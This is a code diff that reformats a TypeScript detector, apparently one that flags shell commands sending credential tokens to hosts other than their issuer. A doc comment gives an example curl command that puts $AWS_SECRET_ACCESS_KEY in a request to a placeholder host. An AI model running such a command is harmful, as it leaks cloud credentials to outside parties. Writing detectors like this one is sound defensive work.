@@ -19,7 +19,10 @@ const PROVES_BY_NEXT = /^(?:-[fsSLkivgjlIaqGN0-6#]*[Hu]|--header|--user)$/;
 /** `curl "https://x.test/?k=$AWS_SECRET_ACCESS_KEY"`: a token that somebody else gave out goes to a host, in its address or as data. In a header it may be for a service of the same issuer, unless the host only poses as one. */
 export function foreignTokens(program: string, args: readonly Word[], running: Running): void {
   if (program === 'curl') shownHeaders(args, running);
-  const isHeader = (word: Word, before: string): boolean => PROVES_BY_NEXT.test(before) || /^(?:-H.|--header=|-u.|--user=)/.test(word.written) || (!/^(?:curl|wget)/.test(program) && HEADER_ITEM.test(word.written));
+  const isHeader = (word: Word, before: string): boolean =>
+    PROVES_BY_NEXT.test(before) ||
+    /^(?:-H.|--header=|-u.|--user=)/.test(word.written) ||
+    (!/^(?:curl|wget)/.test(program) && HEADER_ITEM.test(word.written));
   tellForeign(args, { addresses: addressesOf(program, args), isHeader }, running);
 }
 
@@ -45,7 +48,9 @@ function tellForeign(args: readonly Word[], { addresses, isHeader }: Requested, 
   if (all.length === 0) return;
   const printed = args.flatMap((word) => (addresses.includes(word) ? [] : commandsIn(word, running)));
   for (const issuer of new Set(printed.map(issuerOfPrinted))) {
-    if (issuer !== undefined && all.some((host) => !isOf(issuer, host, running) && !isNamedAfter(issuer, host))) emitResource('send', 'credential', 'token', running);
+    if (issuer !== undefined && all.some((host) => !isOf(issuer, host, running) && !isNamedAfter(issuer, host))) {
+      emitResource('send', 'credential', 'token', running);
+    }
   }
   args.forEach((word, index) => {
     if (word.values[0].certainty === 'certain' || !word.written.includes('$')) return;
@@ -55,7 +60,12 @@ function tellForeign(args: readonly Word[], { addresses, isHeader }: Requested, 
     const written = [...word.written.matchAll(VARIABLE)].map(([, name = '']) => name);
     for (const name of new Set([...written, ...variablesIn(word), ...printedIn(word, running)])) {
       const issuer = issuerOfVariable(name);
-      if (issuer !== undefined && hosts.some((host) => (isHeader(word, textOf(args[index - 1])) ? poses(issuer.domains, host) : !isOf(issuer, host, running)))) emitResource('send', 'credential', name, running);
+      if (
+        issuer !== undefined &&
+        hosts.some((host) => (isHeader(word, textOf(args[index - 1])) ? poses(issuer.domains, host) : !isOf(issuer, host, running)))
+      ) {
+        emitResource('send', 'credential', name, running);
+      }
     }
   });
 }
